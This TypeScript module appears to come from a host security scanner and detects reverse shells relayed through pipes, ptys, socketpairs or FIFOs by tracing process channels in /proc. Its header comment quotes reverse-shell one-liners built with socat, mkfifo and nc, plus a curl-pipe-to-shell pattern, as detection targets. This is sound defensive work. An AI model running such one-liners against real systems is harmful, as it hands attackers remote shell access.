/**
 * Reverse shells behind a relay: a shell whose stdin and stdout are a pty or pipes, with a process on the other
 * end that holds a connected TCP/UDP socket. `socat tcp:host:port exec:sh,pty`, a `python -c 'pty.spawn(...)'`
 * relay, `mkfifo f; sh -i < f | nc host port > f`, `nc … | sh | nc …`.
 *
 * The other end of a channel:
 * - a pipe (`pipe:[N]`): every other process holding pipe N;
 * - a pty slave (`/dev/pts/N`): the process holding its master, paired by the `tty-index` line of the fdinfo
 *   of each /dev/ptmx descriptor (Linux ≥ 4.19), within the same mount namespace (each devpts instance numbers
 *   its own ptys); where no ptmx fdinfo says tty-index, the nearest ancestor holding a /dev/ptmx descriptor.
 *   When that holder does not hold the socket itself but is a relay program (an interpreter running inline code,
 *   a shell, `script`, `socat`), its parent is looked at too: `socat … exec:'python3 -c "pty.spawn(…)"'` talks
 *   to python over a socketpair.
 * - a unix socket (`socat … EXEC:sh` without pty hands the shell one end of a socketpair): the shell's parent, the
 *   one process that can hold the other end of a socketpair it was started with;
 * - a named pipe (a FIFO path, `mkfifo f; sh -i < f | nc … > f`): every other process in the same mount
 *   namespace with a stdio descriptor on the same path; the shell's descriptor is stat'ed (never opened) to make
 *   sure it is a FIFO.
 * Only shells that read their commands from stdin count (`sh`, `sh -i`, `bash -li`, `sh -s`): a reverse shell is
 * driven from its input, while `sh -c …` and `sh script` (what CI agents, supervisors and Node's child_process run
 * with pipes or socketpairs to a process that also talks to the network) are not.
 * Both stdin and stdout must end at a networked process: `curl … | sh` (input from the network, output to the
 * terminal) and a shell piping into curl stay quiet. A channel that ends at a terminal server (`TERMINAL_SERVERS`,
 * running from a program directory) is an interactive login, not a relay. Unix-socket stdio
 * is not followed (its peer is not visible in /proc, and service managers hand their children socketpairs).
 */
import type { Host } from "../../host/host.ts";
import { isExpectedProgram } from "../../host/location.ts";
import { pipeInode, ptsIndex, socketInode } from "../../host/proc_stat.ts";
import type { ProcessInfo } from "../../host/proc_types.ts";
import { basename } from "./common.ts";
import { type InetIndex, shellKind, type ShellSocket } from "./reverse_shell.ts";

/**
 * Programs that legitimately hold a pty master and the user's network connection: interactive logins (ssh,
 * mosh, telnet) and the packaged web terminals (ttyd, shellinabox).
 */
export const TERMINAL_SERVERS: ReadonlySet<string> = new Set([
  "sshd",
  "sshd-session",
  "dropbear",
  "mosh-server",
  "in.telnetd",
  "telnetd",
  "ttyd",
  "shellinaboxd",
]);

/** Programs that relay a pty to their own stdio (whose parent may hold the socket). */
const PTY_RELAYS = new Set(["script", "socat"]);

/** How a shell's channel was tied to the process holding the socket. */
export type Pairing = "pipe" | "fifo" | "socketpair" | "tty-index" | "parent-chain";

/** The process at the network end of one of a shell's channels. */
export interface RelayEnd {
  relay: ProcessInfo;
  socket: ShellSocket;
  pairing: Pairing;
  /** True when the pty master holder passed the channel on to its parent, which holds the socket. */
  viaParent: boolean;
}

/** A shell relayed to the network. */
export interface RelayedShell {
  /** "pty", "pipe" (anonymous or named) or "socketpair". */
  channel: "pty" | "pipe" | "socketpair";
  input: RelayEnd;
  output: RelayEnd;
}

/** One scan's view of who holds which pipe and which pty master. */
export class ChannelGraph {
  readonly #byPid: Map<number, ProcessInfo>;
  readonly #pipeHolders = new Map<number, ProcessInfo[]>();
  #masters: Map<string, ProcessInfo[]> | undefined;
  #fifoPaths: Map<string, ProcessInfo[]> | undefined;
  /** True once a ptmx fdinfo without a tty-index line was seen (an old kernel): pair by the parent chain. */
  #noTtyIndex = false;

  constructor(readonly host: Host, readonly processes: readonly ProcessInfo[], readonly inet: InetIndex) {
    this.#byPid = new Map(processes.map((p) => [p.pid, p]));
    for (const p of processes) {
      for (const inode of p.pipeInodes) {
        const list = this.#pipeHolders.get(inode);
        if (list) list.push(p);
        else this.#pipeHolders.set(inode, [p]);
      }
    }
  }

  /** The pty masters by "<mount namespace> <index>", read from the fdinfo of every ptmx descriptor on first use. */
  #masterMap(): Map<string, ProcessInfo[]> {
    if (this.#masters) return this.#masters;
    const masters = new Map<string, ProcessInfo[]>();
    for (const p of this.processes) {
      for (const fd of p.ptmxFds) {
        const r = this.host.readText(`/proc/${p.pid}/fdinfo/${fd}`, 4096);
        if (!r.ok) continue;
        const m = /^tty-index:\s*(\d+)\s*$/m.exec(r.value);
        if (!m) {
          this.#noTtyIndex = true;
          continue;
        }
        const key = `${p.namespaces.mnt ?? ""} ${m[1]}`;
        const list = masters.get(key);
        if (list && !list.includes(p)) list.push(p);
        else if (!list) masters.set(key, [p]);
      }
    }
    this.#masters = masters;
    return masters;
  }

  /** Processes by "<mount namespace> <path>" of each absolute, non-/dev path their stdio is on (FIFO candidates). */
  #fifoPathMap(): Map<string, ProcessInfo[]> {
    if (this.#fifoPaths) return this.#fifoPaths;
    const map = new Map<string, ProcessInfo[]>();
    for (const p of this.processes) {
      for (const link of new Set(p.stdio)) {
        if (link === null || !link.startsWith("/") || link.startsWith("/dev/")) continue;
        const key = `${p.namespaces.mnt ?? ""} ${link}`;
        const list = map.get(key);
        if (list) list.push(p);
        else map.set(key, [p]);
      }
    }
    this.#fifoPaths = map;
    return map;
  }

  /** The nearest ancestor of `p` holding a pty master (at most 16 generations up). */
  #ancestorWithPtmx(p: ProcessInfo): ProcessInfo | undefined {
    let at = this.#byPid.get(p.ppid);
    for (let i = 0; i < 16 && at !== undefined; i++) {
      if (at.ptmxFds.length > 0) return at;
      at = at.pid > 1 ? this.#byPid.get(at.ppid) : undefined;
    }
    return undefined;
  }

  /** The processes on the other end of stdio descriptor `fd` of process `p`, with how they were found. */
  peers(p: ProcessInfo, fd: number): { holders: ProcessInfo[]; pairing: Pairing } | undefined {
    const link = p.stdio[fd] ?? null;
    if (link === null) return undefined;
    const others = (list: readonly ProcessInfo[] | undefined) => (list ?? []).filter((h) => h.pid !== p.pid);
    const pipe = pipeInode(link);
    if (pipe !== undefined) return { holders: others(this.#pipeHolders.get(pipe)), pairing: "pipe" };
    const socket = socketInode(link);
    if (socket !== undefined) {
      // An inet socket is the direct case (./reverse_shell.ts); another socket's peer is not in /proc.
      if (this.inet.lookup(p, socket) !== undefined) return undefined;
      const up = this.parent(p);
      return { holders: up ? [up] : [], pairing: "socketpair" };
    }
    if (link.startsWith("/") && !link.startsWith("/dev/")) {
      const holders = others(this.#fifoPathMap().get(`${p.namespaces.mnt ?? ""} ${link}`));
      if (holders.length === 0) return undefined;
      const st = this.host.stat(`/proc/${p.pid}/fd/${fd}`);
      return st.ok && st.value.isFifo ? { holders, pairing: "fifo" } : undefined;
    }
    const index = ptsIndex(link);
    if (index === undefined) return undefined;
    const holders = this.#masterMap().get(`${p.namespaces.mnt ?? ""} ${index}`) ?? [];
    if (holders.length > 0 || !this.#noTtyIndex) return { holders, pairing: "tty-index" };
    const up = this.#ancestorWithPtmx(p);
    return { holders: up ? [up] : [], pairing: "parent-chain" };
  }

  /** The parent of `p` in this snapshot. */
  parent(p: ProcessInfo): ProcessInfo | undefined {
    return p.ppid > 1 ? this.#byPid.get(p.ppid) : undefined;
  }
}

/** Long shell options that take the next argument as their value. */
const OPTION_ARGS = new Set(["--rcfile", "--init-file"]);

/**
 * True when a shell run with `argv` reads its commands from stdin: no `-c` (alone or in a cluster such as `-ec`),
 * and no script operand, unless `-s` says stdin anyway.
 */
export function readsCommandsFromStdin(argv: readonly string[]): boolean {
  const args = argv.slice(1);
  for (let i = 0; i < args.length; i++) {
    const a = args[i];
    if (a === "--") return i + 1 >= args.length;
    if (OPTION_ARGS.has(a)) {
      i++;
      continue;
    }
    if (/^[-+][A-Za-z]+$/.test(a)) {
      if (a.startsWith("-") && a.includes("s")) return true;
      if (a.startsWith("-") && a.includes("c")) return false;
      if (/[oO]$/.test(a)) i++; // -euo pipefail: the option's value follows
      continue;
    }
    if (a.startsWith("--")) continue;
    return false;
  }
  return true;
}

/** What the network end of one channel is: a relay, a terminal server (a login), or nothing networked. */
type EndVerdict = { relay: RelayEnd } | { login: ProcessInfo } | undefined;

function isRelayProgram(p: ProcessInfo): boolean {
  return shellKind(p) !== undefined || PTY_RELAYS.has(basename(p.exe ?? ""));
}

function followChannel(g: ChannelGraph, p: ProcessInfo, fd: number): EndVerdict {
  const found = g.peers(p, fd);
  if (!found) return undefined;
  const link = p.stdio[fd];
  for (const h of found.holders) {
    if (isExpectedProgram(h, TERMINAL_SERVERS)) return { login: h };
  }
  for (const h of found.holders) {
    const socket = g.inet.connected(h);
    if (socket) return { relay: { relay: h, socket, pairing: found.pairing, viaParent: false } };
  }
  if (!link?.startsWith("/dev/pts/")) return undefined;
  for (const h of found.holders) {
    const up = isRelayProgram(h) ? g.parent(h) : undefined;
    if (!up) continue;
    if (isExpectedProgram(up, TERMINAL_SERVERS)) return { login: up };
    const socket = g.inet.connected(up);
    if (socket) return { relay: { relay: up, socket, pairing: found.pairing, viaParent: true } };
  }
  return undefined;
}

/**
 * The relay evidence for a shell, or undefined: its stdin and its stdout (or stderr) are a pty or pipes whose
 * other ends are held by processes with a connected inet socket, and neither is a terminal server.
 */
export function relayedShell(g: ChannelGraph, p: ProcessInfo): RelayedShell | undefined {
  if (shellKind(p) !== "shell" || !readsCommandsFromStdin(p.cmdline)) return undefined;
  const input = followChannel(g, p, 0);
  if (!input || !("relay" in input)) return undefined;
  let output: EndVerdict;
  for (const fd of [1, 2]) {
    output = followChannel(g, p, fd);
    if (output) break;
  }
  if (!output || !("relay" in output)) return undefined;
  const pairing = input.relay.pairing;
  const channel = pairing === "tty-index" || pairing === "parent-chain"
    ? "pty"
    : pairing === "socketpair"
    ? "socketpair"
    : "pipe";
  return { channel, input: input.relay, output: output.relay };
}
